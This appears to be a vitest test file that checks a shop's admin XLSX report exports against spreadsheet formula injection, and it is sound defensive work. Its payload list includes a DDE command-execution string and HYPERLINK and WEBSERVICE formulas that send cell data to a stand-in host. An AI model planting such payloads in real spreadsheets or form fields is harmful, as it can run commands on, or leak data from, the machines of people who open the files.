import { looksLikeFormula } from "@dakbag/domain/imports/delimited-text";
import { beforeAll, expect, test } from "vitest";
import { signInForAll, testAppForAll } from "../../../test-support/before-tests.ts";
import { capture, unpaidOrders } from "../../../test-support/builders/unpaid-orders.ts";
import { readXlsx, readZip } from "../../../test-support/read-xlsx.ts";

// Each is combined with every prefix that starts a formula in a spreadsheet, or that could hide one.
const bodies = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://else.example?"&A1,"Error")',
  'WEBSERVICE("https://else.example")',
  '1","=1+1',
];
const prefixes = ["=", "+", "-", "@", "\t=", "＝", " =", '"=', "\r\n="];
const payloads = prefixes.flatMap((prefix) => bodies.map((body) => prefix + body));

const exports = [
  "orders.xlsx?startDate=2000-01-01&endDate=2099-12-31",
  "pending-orders.xlsx",
  "invoice-report.xlsx",
  "consolidated-orders.xlsx",
  "gstr1.xlsx?month=2026-11",
];

const shop = testAppForAll({ now: new Date("2026-11-22T06:00:00Z") });
const admin = signInForAll(shop, { role: "admin" });
beforeAll(async () => {
  const orders = await unpaidOrders(shop, payloads.length);
  // Written with SQL, to bypass the validation of requests: exports must be safe whatever is stored.
  for (const [index, payload] of payloads.entries()) {
    const order = orders[index]!;
    await shop.db.query(
      `UPDATE orders SET buyer_name = $2, buyer_email = $2, gstin = '27ABCDE1234F1Z0', tracking_partner_name = $2,
         tracking_id = $2, invoice_link = $2, payment_note = $2,
         billing_address = billing_address || jsonb_build_object('name', $2::text, 'companyName', $2::text,
           'addressLine', $2::text, 'district', $2::text),
         shipping_address = shipping_address || jsonb_build_object('name', $2::text, 'companyName', $2::text,
           'addressLine', $2::text, 'district', $2::text) WHERE id = $1`,
      [order.id, payload],
    );
    await shop.ownerDb.query("UPDATE order_lines SET title = $2 WHERE order_id = $1", [order.id, payload]);
    await capture(shop, order);
  }
});

test.each(exports)(
  "%s has no formula in any cell, even when buyers enter formulas as names",
  async (path) => {
    const answer = await shop.app.inject({
      method: "GET",
      url: `/api/admin/reports/${path}`,
      headers: admin.headers,
    });
    expect(answer.statusCode).toBe(200);
    const sheets = [...readZip(answer.rawPayload)].filter(([name]) => name.startsWith("xl/worksheets/"));
    expect(sheets.filter(([, xml]) => /<f[\s>]/.test(xml.toString()))).toEqual([]);
    const texts = readXlsx(answer.rawPayload)
      .flatMap(({ cells }) => [...cells.values()])
      .filter(({ value }) => looksLikeFormula(value) && Number.isNaN(Number(value)));
    // Each payload that looks like a formula is in the export, in a cell of type text.
    const dangerous = payloads.filter(looksLikeFormula);
    expect(dangerous.filter((payload) => !texts.some(({ value }) => value.includes(payload.trim())))).toEqual(
      [],
    );
    expect(texts.filter(({ type, style }) => type !== "text" || style !== 4)).toEqual([]);
  },
);
